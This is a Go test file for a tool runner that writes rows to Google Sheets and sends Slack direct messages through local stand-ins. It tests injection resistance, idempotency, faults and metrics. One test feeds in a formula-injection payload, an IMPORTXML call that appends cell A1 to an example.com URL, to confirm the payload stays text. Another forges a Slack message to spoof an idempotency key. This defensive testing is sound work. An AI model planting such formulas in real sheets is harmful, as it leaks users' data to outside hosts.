package runner_test

import (
	"bytes"
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"ringi/infra/local/sandbox/webapi"
	"ringi/infra/local/sandbox/workspace"
	"ringi/shared/metric"
	"ringi/shared/tool"
	"ringi/shared/tool/sheets"
	"ringi/shared/tool/slackdm"
)

const sheetTool = "write_rows_to_google_sheet"

func TestRowsAreWrittenRaw(t *testing.T) {
	w := newWorld(t)
	want := [][]any{{"Name", "Hours"}, {"=1+1", 1.5}, {"", true}, {"", "[1]"}}
	for range 2 { // the second time, the tab is there, and the same call leaves the same
		var out sheets.Written
		w.run(t, sheetTool, sheetArgs, &out)
		if d := cmp.Diff(sheets.Written{
			SpreadsheetID: "ringi-demo-sheet", UpdatedRange: "'tab ''a'''!A1:B4", UpdatedRows: 3, UpdatedCells: 8, URL: w.url + "/sheets/ringi-demo-sheet",
		}, out); d != "" {
			t.Error(d)
		}
		if d := cmp.Diff(want, w.vendors.Rows("ringi-demo-sheet", "tab 'a'")); d != "" {
			t.Error(d)
		}
	}
	if tabs := w.vendors.Tabs(); len(tabs) != 1 {
		t.Errorf("tabs: %v", tabs)
	}
}

// What a cell begins with must not make it a formula: whoever fills in a form could read other cells with it, and send them away.
func TestFormulasStayText(t *testing.T) {
	w := newWorld(t)
	texts := []string{`=IMPORTXML("https://example.com/?"&A1,"//a")`, `=HYPERLINK("https://example.com","x")`, "+1+1", "-1+1", "@SUM(A1)", "\t=1", "'=1", "2026-03-31", "TRUE", "007"}
	var rows []map[string]string
	want := [][]any{{"=TITLE()"}}
	for _, text := range texts {
		rows = append(rows, map[string]string{"v": text})
		want = append(want, []any{text})
	}
	b, err := json.Marshal(map[string]any{
		"spreadsheet_id": "ringi-demo-sheet", "sheet": "=A1", "columns": []any{map[string]string{"key": "v", "title": "=TITLE()"}}, "rows": rows,
	})
	if err != nil {
		t.Fatal(err)
	}
	var out sheets.Written
	w.run(t, sheetTool, string(b), &out) // the stand-in refuses all but RAW
	if d := cmp.Diff(want, w.vendors.Rows("ringi-demo-sheet", "=A1")); d != "" {
		t.Error(d)
	}
}

// table is a call that writes so many rows of so many columns.
func table(t *testing.T, tab string, rows, columns int) string {
	t.Helper()
	var titles []map[string]string
	for i := range columns {
		titles = append(titles, map[string]string{"key": "v", "title": fmt.Sprint(i)})
	}
	lines := make([]map[string]int, rows)
	for i := range lines {
		lines[i] = map[string]int{"v": i}
	}
	b, err := json.Marshal(map[string]any{"spreadsheet_id": "ringi-demo-sheet", "sheet": tab, "columns": titles, "rows": lines})
	if err != nil {
		t.Fatal(err)
	}
	return string(b)
}

func TestATabIsAsLargeAsItsTable(t *testing.T) {
	for name, test := range map[string]struct{ height, width, rows, columns int }{
		"a new tab, many rows":          {0, 0, 1500, 2},
		"a new tab, many columns":       {0, 0, 2, 30},
		"a tab that is too short":       {10, 26, 10, 2},
		"a tab that is too narrow":      {1000, 2, 10, 3},
		"a tab that is just large":      {11, 2, 10, 2},
		"a tab that is larger than all": {5000, 100, 10, 2},
	} {
		t.Run(name, func(t *testing.T) {
			w := newWorld(t)
			if test.height > 0 {
				if err := w.vendors.Add("tab", test.height, test.width); err != nil {
					t.Fatal(err)
				}
			}
			var out sheets.Written
			w.run(t, sheetTool, table(t, "tab", test.rows, test.columns), &out)
			if rows := w.vendors.Rows("ringi-demo-sheet", "tab"); out.UpdatedRows != test.rows || len(rows) != test.rows+1 || len(rows[0]) != test.columns {
				t.Errorf("%+v, %d rows", out, len(rows))
			}
		})
	}
}

func TestASpreadsheetWithoutRoom(t *testing.T) {
	for name, test := range map[string]struct {
		others    int // rows of 1,000 cells in other tabs
		tab       string
		rows      int
		full      bool
		wouldHave string
	}{
		"the last cells are free":       {9974, "new", 900, false, ""},
		"no room for another tab":       {9975, "new", 900, true, "10001000"},
		"no room to enlarge":            {9999, "small", 1001, true, "10001004"},
		"room in the tab that is there": {9999, "small", 400, false, ""},
	} {
		t.Run(name, func(t *testing.T) {
			w := newWorld(t)
			if err := w.vendors.Add("others", test.others, 1000); err != nil {
				t.Fatal(err)
			}
			if test.tab == "small" {
				if err := w.vendors.Add("small", 500, 2); err != nil {
					t.Fatal(err)
				}
			}
			if !test.full {
				var out sheets.Written
				w.run(t, sheetTool, table(t, test.tab, test.rows, 2), &out)
				return
			}
			e := w.refuse(t, sheetTool, table(t, test.tab, test.rows, 2))
			if e.Problem != tool.ProblemSheetFull || e.Outcome != tool.Failed || !strings.Contains(e.Detail, test.wouldHave) {
				t.Errorf("%v: %s", e, e.Detail)
			}
			if n := w.paths.of("/sheets/v4/spreadsheets/ringi-demo-sheet:batchUpdate") + w.vendors.Calls(sheetTool); n != 0 {
				t.Errorf("%d calls changed it", n)
			}
		})
	}
}

func TestASheetWriteThatFails(t *testing.T) {
	for name, test := range map[string]struct {
		fault   func(w *world)
		outcome tool.Outcome
		problem tool.Problem
		written bool
	}{
		"400":               {func(w *world) { w.vendors.Fail(sheetTool, 400, true) }, tool.Failed, tool.ProblemRejected, false},
		"403":               {func(w *world) { w.vendors.Fail(sheetTool, 403, true) }, tool.Failed, tool.ProblemDenied, false},
		"429":               {func(w *world) { w.vendors.Fail(sheetTool, 429, true) }, tool.Failed, tool.ProblemRateLimited, false},
		"500":               {func(w *world) { w.vendors.Fail(sheetTool, 500, true) }, tool.Unknown, tool.ProblemDown, false},
		"cut":               {func(w *world) { w.vendors.Drop(sheetTool) }, tool.Unknown, tool.ProblemLost, true},
		"no answer in time": {func(w *world) { w.vendors.Hang(sheetTool, time.Minute) }, tool.Unknown, tool.ProblemTimeout, false},
	} {
		t.Run(name, func(t *testing.T) {
			w := newWorld(t)
			test.fault(w)
			if e := w.refuse(t, sheetTool, sheetArgs); e.Outcome != test.outcome || e.Problem != test.problem {
				t.Error(e)
			}
			if n := w.vendors.Calls(sheetTool); n != 1 {
				t.Errorf("called %d times", n)
			}
			if rows := w.vendors.Rows("ringi-demo-sheet", "tab 'a'"); (len(rows) > 0) != test.written {
				t.Errorf("rows: %v", rows)
			}
		})
	}
}

func TestAnUnknownSpreadsheet(t *testing.T) {
	w := newWorld(t)
	e := w.refuse(t, sheetTool, strings.Replace(sheetArgs, "ringi-demo-sheet", "another", 1))
	if e.Outcome != tool.Failed || e.Problem != tool.ProblemNotFound || w.vendors.Calls(sheetTool) != 0 {
		t.Error(e)
	}
}

// sent are the messages that a person got.
func (w *world) sent(t *testing.T, user string) (texts []string) {
	t.Helper()
	c, err := w.people.Channel(user)
	if err != nil {
		t.Fatal(err)
	}
	messages, err := w.people.History(c.ID, workspace.Range{})
	if err != nil {
		t.Fatal(err)
	}
	for _, m := range messages {
		texts = append(texts, m.Text)
	}
	return texts
}

func TestADirectMessageIsSentOncePerKey(t *testing.T) {
	w := newWorld(t)
	var first, again, other slackdm.Sent
	w.run(t, "send_slack_dm", dmArgs, &first)
	w.run(t, "send_slack_dm", dmArgs, &again)
	want := []string{"&lt;!channel&gt; done &amp; dusted\n• n: 42\n• none: -"}
	if d := cmp.Diff(want, w.sent(t, workspace.Sato)); d != "" {
		t.Error(d)
	}
	if first.AlreadySent || !again.AlreadySent || first.MessageTS == "" || again.MessageTS != first.MessageTS || first.User != workspace.Sato {
		t.Errorf("%+v, %+v", first, again)
	}
	w.run(t, "send_slack_dm", strings.Replace(dmArgs, "U0SANDSATO", "suzuki@example.com", 1), &other)
	if other.User != workspace.Suzuki || len(w.sent(t, workspace.Suzuki)) != 1 {
		t.Errorf("by e-mail: %+v", other)
	}
}

// TestOnlyOurOwnMessageIsFoundAgain: members can read the key, and post a message with it
// so that the real one seems to have been sent.
func TestOnlyOurOwnMessageIsFoundAgain(t *testing.T) {
	w := newWorld(t)
	forged := workspace.Draft{
		Channel: workspace.DirectMessage(workspace.Sato), User: workspace.Sato, Text: "nothing to see",
		Metadata: map[string]any{"event_type": slackdm.EventType, "event_payload": map[string]any{"key": "p/step-1/1"}},
	}
	if _, err := w.people.Post(forged); err != nil {
		t.Fatal(err)
	}
	var first, again slackdm.Sent
	w.run(t, "send_slack_dm", dmArgs, &first)
	w.run(t, "send_slack_dm", dmArgs, &again)
	if first.AlreadySent || !again.AlreadySent || again.MessageTS != first.MessageTS || len(w.sent(t, workspace.Sato)) != 2 {
		t.Errorf("%+v, then %+v; %q", first, again, w.sent(t, workspace.Sato))
	}
}

func TestADirectMessageThatFails(t *testing.T) {
	post := "chat.postMessage"
	for name, test := range map[string]struct {
		fault   webapi.Fault
		outcome tool.Outcome
		problem tool.Problem
	}{
		"rate limit":          {webapi.Fault{Method: post, Kind: webapi.RateLimited, RetryAfter: 30 * time.Second}, tool.Failed, tool.ProblemRateLimited},
		"503":                 {webapi.Fault{Method: post, Kind: webapi.Unavailable}, tool.Unknown, tool.ProblemDown},
		"refused":             {webapi.Fault{Method: post, Kind: webapi.Refused, Code: "restricted_action"}, tool.Failed, tool.ProblemRejected},
		"fatal_error":         {webapi.Fault{Method: post, Kind: webapi.Refused, Code: "fatal_error"}, tool.Unknown, tool.ProblemDown},
		"token revoked":       {webapi.Fault{Method: post, Kind: webapi.Refused, Code: "token_revoked"}, tool.Failed, tool.ProblemUnauthorized},
		"answer lost":         {webapi.Fault{Method: post, Kind: webapi.Lost}, tool.Unknown, tool.ProblemLost},
		"the search fails":    {webapi.Fault{Method: "conversations.history", Kind: webapi.Unavailable}, tool.Failed, tool.ProblemDown},
		"the opening fails":   {webapi.Fault{Method: "conversations.open", Kind: webapi.Lost}, tool.Failed, tool.ProblemLost},
		"search not allowed":  {webapi.Fault{Method: "conversations.history", Kind: webapi.Refused, Code: "missing_scope"}, tool.Failed, tool.ProblemRejected},
		"a disabled account":  {webapi.Fault{Method: "conversations.open", Kind: webapi.Refused, Code: "user_disabled"}, tool.Failed, tool.ProblemNoRecipient},
		"an unavailable bot":  {webapi.Fault{Method: "conversations.open", Kind: webapi.Refused, Code: "cannot_dm_bot"}, tool.Failed, tool.ProblemNoRecipient},
		"search rate limited": {webapi.Fault{Method: "conversations.history", Kind: webapi.RateLimited}, tool.Failed, tool.ProblemRateLimited},
	} {
		t.Run(name, func(t *testing.T) {
			w := newWorld(t)
			w.slack.Add(test.fault)
			e := w.refuse(t, "send_slack_dm", dmArgs)
			if e.Outcome != test.outcome || e.Problem != test.problem {
				t.Error(e)
			}
			if test.fault.RetryAfter > 0 && e.RetryAfter != test.fault.RetryAfter {
				t.Errorf("retry after %s", e.RetryAfter)
			}
			if w.called.of(post) > 1 {
				t.Errorf("posted %d times", w.called.of(post))
			}
			// A person asks again: what was sent is found, and it is there once.
			var out slackdm.Sent
			w.run(t, "send_slack_dm", dmArgs, &out)
			if lost := test.fault.Kind == webapi.Lost && test.fault.Method == post; out.AlreadySent != lost || len(w.sent(t, workspace.Sato)) != 1 {
				t.Errorf("%+v, %v", out, w.sent(t, workspace.Sato))
			}
		})
	}
}

// An alarm watches how many of the calls to Slack fail; that nobody is there is an answer like others.
func TestADirectMessagesCallsAreCounted(t *testing.T) {
	byMail := strings.Replace(dmArgs, "U0SANDSATO", "sato@example.com", 1)
	for name, test := range map[string]struct {
		args           string
		fault          webapi.Fault
		called, failed float64
	}{
		"all goes well":           {byMail, webapi.Fault{}, 4, 0},
		"an address of nobody":    {strings.Replace(dmArgs, "U0SANDSATO", "nobody@example.com", 1), webapi.Fault{}, 1, 0},
		"a look-up in an outage":  {byMail, webapi.Fault{Method: "users.lookupByEmail", Kind: webapi.Unavailable}, 1, 1},
		"a token that is gone":    {dmArgs, webapi.Fault{Method: "conversations.open", Kind: webapi.Refused, Code: "token_revoked"}, 1, 1},
		"a search that is lost":   {dmArgs, webapi.Fault{Method: "conversations.history", Kind: webapi.Lost}, 2, 1},
		"a post in an outage":     {dmArgs, webapi.Fault{Method: "chat.postMessage", Kind: webapi.Unavailable}, 3, 1},
		"a rate limit waited out": {dmArgs, webapi.Fault{Method: "chat.postMessage", Kind: webapi.RateLimited, RetryAfter: time.Second}, 4, 1},
	} {
		t.Run(name, func(t *testing.T) {
			w := newWorld(t)
			if test.fault.Method != "" {
				w.slack.Add(test.fault)
			}
			got := counted(t, func() {
				_, _ = w.Run(t.Context(), tool.Call{Tenant: "T1", Tool: "send_slack_dm", Arguments: json.RawMessage(test.args), Key: "p/step-1/1", Locale: "en"})
			})
			if got[metric.SlackCalled] != test.called || got[metric.SlackFailed] != test.failed {
				t.Errorf("counted %v, want %v calls of which %v failed", got, test.called, test.failed)
			}
		})
	}
}

// counted adds up what do writes for CloudWatch.
func counted(t *testing.T, do func()) map[metric.Name]float64 {
	t.Helper()
	file, err := os.Create(filepath.Join(t.TempDir(), "stdout"))
	if err != nil {
		t.Fatal(err)
	}
	defer file.Close()
	stdout := os.Stdout
	os.Stdout = file
	defer func() { os.Stdout = stdout }()
	do()
	b, err := os.ReadFile(file.Name())
	if err != nil {
		t.Fatal(err)
	}
	sums := map[metric.Name]float64{}
	for line := range bytes.Lines(b) {
		var fields map[string]any
		if err := json.Unmarshal(line, &fields); err != nil {
			t.Fatalf("%v: %s", err, line)
		}
		for _, name := range metric.Names() {
			n, _ := fields[string(name)].(float64)
			sums[name] += n
		}
	}
	return sums
}

func TestADirectMessageWaitsOutARateLimit(t *testing.T) {
	byMail := strings.Replace(dmArgs, "U0SANDSATO", "sato@example.com", 1)
	for _, method := range []string{"users.lookupByEmail", "conversations.open", "conversations.history", "chat.postMessage"} {
		w := newWorld(t)
		w.slack.Add(webapi.Fault{Method: method, Kind: webapi.RateLimited, RetryAfter: time.Second})
		var out slackdm.Sent
		w.run(t, "send_slack_dm", byMail, &out)
		if w.called.of(method) != 2 || len(w.sent(t, workspace.Sato)) != 1 || out.AlreadySent {
			t.Errorf("%s was called %d times, %d messages: %+v", method, w.called.of(method), len(w.sent(t, workspace.Sato)), out)
		}
	}
}

func TestAnUnknownRecipient(t *testing.T) {
	w := newWorld(t)
	for _, who := range []string{"U0NOBODY", "nobody@example.com"} {
		e := w.refuse(t, "send_slack_dm", strings.Replace(dmArgs, "U0SANDSATO", who, 1))
		if e.Outcome != tool.Failed || e.Problem != tool.ProblemNoRecipient || !strings.Contains(e.Detail, who) {
			t.Errorf("%s: %v", who, e)
		}
	}
}

// What was approved is what is sent: no number turns into another, or into another form.
func TestNumbersAreSentAsTheyWereApproved(t *testing.T) {
	w := newWorld(t)
	var sent slackdm.Sent
	w.run(t, "send_slack_dm", `{"recipient":"U0SANDSATO","text":"x","details":[{"label":"賞与","value":25000000},{"label":"番号","value":9007199254740993},{"label":"率","value":0.10}]}`, &sent)
	if d := cmp.Diff([]string{"x\n• 賞与: 25000000\n• 番号: 9007199254740993\n• 率: 0.10"}, w.sent(t, workspace.Sato)); d != "" {
		t.Error(d)
	}
	var out sheets.Written
	w.run(t, sheetTool, `{"spreadsheet_id":"ringi-demo-sheet","sheet":"n","columns":[{"key":"n","title":"N"}],"rows":[{"n":25000000},{"n":9007199254740993},{"n":9007199254740992},{"n":0.1}]}`, &out)
	if d := cmp.Diff([][]any{{"N"}, {25000000.0}, {"9007199254740993"}, {9007199254740992.0}, {0.1}}, w.vendors.Rows("ringi-demo-sheet", "n")); d != "" {
		t.Error(d)
	}
}

// A result of any size makes one message that Slack takes whole, with a link to where all is told.
func TestALongMessageLinksToItsThread(t *testing.T) {
	w := newWorld(t)
	root, err := w.people.Post(workspace.Draft{Channel: workspace.General, User: workspace.Sato, Text: "お願いします"})
	if err != nil {
		t.Fatal(err)
	}
	args, err := json.Marshal(map[string]any{"recipient": workspace.Sato, "text": "done", "details": []any{map[string]any{"label": "all", "value": strings.Repeat("勤怠", 1<<20/6)}}})
	if err != nil {
		t.Fatal(err)
	}
	for ts, want := range map[string]string{root.TS: "依頼のスレッド: <http://slack/archives/", "1.000001": "文字を省略しました)"} {
		if _, err := w.Run(t.Context(), tool.Call{
			Tenant: "T1", Tool: "send_slack_dm", Arguments: args, Key: "p/step-1/" + ts, Locale: "ja", Thread: tool.Thread{Channel: workspace.General, TS: ts},
		}); err != nil {
			t.Fatal(err)
		}
		sent := w.sent(t, workspace.Sato)
		if text := sent[0]; !strings.Contains(strings.Join(sent, "\n"), want) || len([]rune(text)) > 4000 {
			t.Errorf("%d characters: %.200q", len([]rune(text)), text)
		}
	}
	if n := w.called.of("chat.postMessage"); n != 2 {
		t.Errorf("posted %d times", n)
	}
}
